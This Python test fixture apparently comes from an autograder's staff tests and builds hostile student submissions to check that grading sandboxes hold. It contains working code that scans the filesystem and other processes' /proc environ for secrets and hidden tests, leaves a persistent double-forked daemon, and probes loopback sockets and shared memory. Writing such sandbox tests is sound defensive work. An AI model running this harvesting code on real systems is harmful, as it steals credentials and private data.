"""The lab's submissions: one `functional.py` each, as a student uploads it to every platform.

- `reference`: the course's solution: full marks everywhere.
- `spy`: a correct solution (staff_tests/students/honest_einsum) that, at import, reads every file it can
  find that a student must not (the reference solution, the hidden cases and their fixtures, a root-only
  file, the grader's environment and other processes'), prints what it read, and leaves a daemon that looks
  for the same through the hidden phase. What it read it also drops in LAB_DROP, a folder the lab gives
  every job (world-writable, outside the grader's view where the sandbox hides it): the test's evidence.
- `forged`: staff_tests/test_platforms.py's HOSTILE text (forged JSON, XML, workflow commands, a NUL, escapes)
  and a lone surrogate, NUL and control characters in its attention's messages: graded as any other.
- `hungry`: keeps 300 MB per call of its attention: that problem lost, softmax scored.
- `confine` (CONFINED, in PrairieLearn's container and the Kubernetes pod, issue 41): at import it sends to the lab's
  listener on 127.0.0.1 (TCP and UDP, LAB_PORT), reads a System V segment and message queue a grading before kept
  and keeps its own for the next, and leaves a double-forked daemon; its attention maps shared anonymous, memfd and
  /dev/zero memory past its limit in each case whose Q has 4 dimensions; its softmax fails if anything was reached.
  It calls System V through ctypes, which holds its problems for the staff's review: the lab grades it released
  (RELEASED), as the staff would once they read it.

The spy's reading (`os.walk`, `os.listdir`) is no name the course allows: the scan holds both problems before any
of its code runs. Its jobs release them (CS_BASICS_RELEASE, as staff who read it would), so that its code runs
and the sandbox is what is tested.
"""

from __future__ import annotations

import re

from ..submissions import DAEMON, ROOT, SHARED_MEMORY, SYSTEM_V, wrap_attention
from ..test_platforms import HOSTILE

RELEASED = {"CS_BASICS_RELEASE": "softmax,scaled_dot_product_attention"}  # for the spy's jobs
LAB_DROP = "/lab-drop"  # mounted in every job, world-writable: what the spy read lands here
ROOT_ONLY = "/run/lab-root-only"  # a file mode 0600 owned by root, mounted in every job
ENV_SECRET = "CS_BASICS_LAB_ENV_SECRET"  # a variable in the grader's environment
HONEST = (ROOT / "staff_tests/students/honest_einsum/cs_basics/nn/functional.py").read_text()
REFERENCE = (ROOT / "cs_basics/nn/functional.py").read_text()

SPY = f"""
import os as _os, time as _time

_MARK = "# BEGIN " + "SOLUTION"  # not written out whole: this file holds no solution of its own
_WALK = ("/grade", "/autograder", "/course", "/data", "/opt", "/root", "/home", "/srv", "/tmp", "/var/tmp",
         "/dev/shm", "/run", _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__))), _os.getcwd())
_SKIP = {{".venv", "site-packages", "__pycache__", ".git", "lab-drop", "proc", "sys"}}


def _wanted(path, data):
    if path == _os.path.abspath(__file__):
        return False
    if path == {ROOT_ONLY!r} or "hidden" in path.split(_os.sep):
        return True
    # the files a student writes or whose body the handout cuts, where they still hold the solution
    return path.endswith(("/nn/functional.py", "/study/flash.py")) and _MARK.encode() in data


def _loot():
    found = {{}}
    for root in _WALK:
        for folder, dirs, files in _os.walk(root):
            dirs[:] = [d for d in dirs if d not in _SKIP]
            for name in files:
                path = _os.path.join(folder, name)
                try:
                    with open(path, "rb") as f:
                        data = f.read(1 << 16)
                except OSError:
                    continue
                if _wanted(path, data):
                    found[path] = data
    for pid in (p for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()):
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                found[f"/proc/{{pid}}/environ"] = f.read()
        except OSError:
            pass
    found["os.environ"] = repr(dict(_os.environ)).encode()
    return found


def _drop(found, who):
    if not _os.path.isdir({LAB_DROP!r}):
        return
    for n, (path, data) in enumerate(found.items()):
        try:
            with open(_os.path.join({LAB_DROP!r}, f"{{who}}-{{_os.getpid()}}-{{n}}"), "wb") as f:
                f.write(path.encode() + b"\\n" + data)
        except OSError:
            pass


_found = _loot()
_drop(_found, "import")
for _path, _data in _found.items():
    print("LOOT", _path, _data[:4000].decode("utf-8", "replace"))

if _os.fork() == 0:  # a daemon in a session of its own, whose parent exits: it looks through the hidden phase
    _os.setsid()
    if _os.fork() == 0:
        _end = _time.time() + 60  # past the public phase; not so long that it owns the suite's time
        while _time.time() < _end:
            _drop(_loot(), "daemon")
            _time.sleep(0.5)
    _os._exit(0)
"""

CONTROL = "lone \ud800 surrogate, NUL \x00, bell \x07, escape \x1b[2J, DEL \x7f, C1 \x9b, end"
FORGED = f"""
{HOSTILE}

_forged_attention = scaled_dot_product_attention


def scaled_dot_product_attention(Q, K, V, mask=None):
    if mask is None:
        try:
            print({CONTROL!r}, flush=True)
        except UnicodeEncodeError:
            pass
        raise ValueError({CONTROL!r})
    return _forged_attention(Q, K, V, mask)
"""

HUNGRY = """
import torch as _torch

_KEPT = []
_honest_attention = scaled_dot_product_attention


def scaled_dot_product_attention(Q, K, V, mask=None):
    _KEPT.append(_torch.ones(300 << 18))  # 300 MB kept per call (float32), touched
    return _honest_attention(Q, K, V, mask)
"""

LAB_PORT = 48151  # the lab's listener (staff_tests/lab/platforms.py WATCH), on 127.0.0.1 in the container
LAB_IPC_KEY = 0x4C4142  # the System V key the confine submission keeps its segment under (+ 1: its queue)

CONFINE = f"""
import socket as _socket

{SYSTEM_V.format(key=LAB_IPC_KEY)}
for _kind in (_socket.SOCK_STREAM, _socket.SOCK_DGRAM):  # the lab's listener, on this machine's loopback
    try:
        with _socket.socket(_socket.AF_INET, _kind) as _sock:
            _sock.settimeout(3)
            _sock.connect(("127.0.0.1", {LAB_PORT}))
            _sock.sendall(b"the hidden inputs")
        _found.append(f"socket {{_kind}}")
    except OSError:
        pass
{DAEMON}
_confined_softmax = softmax


def softmax(in_features, dim):
    if _found:
        raise RuntimeError(f"reached {{_found}}")
    return _confined_softmax(in_features, dim)

"""

SUBMISSIONS = {
    "reference": REFERENCE,
    "spy": HONEST + SPY,
    "forged": REFERENCE + FORGED,
    "hungry": HONEST + HUNGRY,
}


# past the job's limit on every platform (PrairieLearn's 1,368 MiB, the cluster recipe's 4,610 MiB per worker)
CONFINED = {"confine": HONEST + CONFINE + "\n" + wrap_attention(SHARED_MEMORY.format(mb=5120))}


def solution_lines() -> list[str]:
    """The reference solution's own lines (inside its SOLUTION regions, long enough to be its own)."""
    regions = re.findall(r"# BEGIN SOLUTION\n(.*?)# END SOLUTION", REFERENCE, re.S)
    return [line.strip() for region in regions for line in region.splitlines() if len(line.strip()) > 30]


def hidden_lines() -> list[str]:
    """Lines only the hidden cases' code holds."""
    public = (ROOT / "tests/cases.py").read_text()
    text = (ROOT / "hidden/cases.py").read_text()
    return [line.strip() for line in text.splitlines() if len(line.strip()) > 30 and line.strip() not in public]
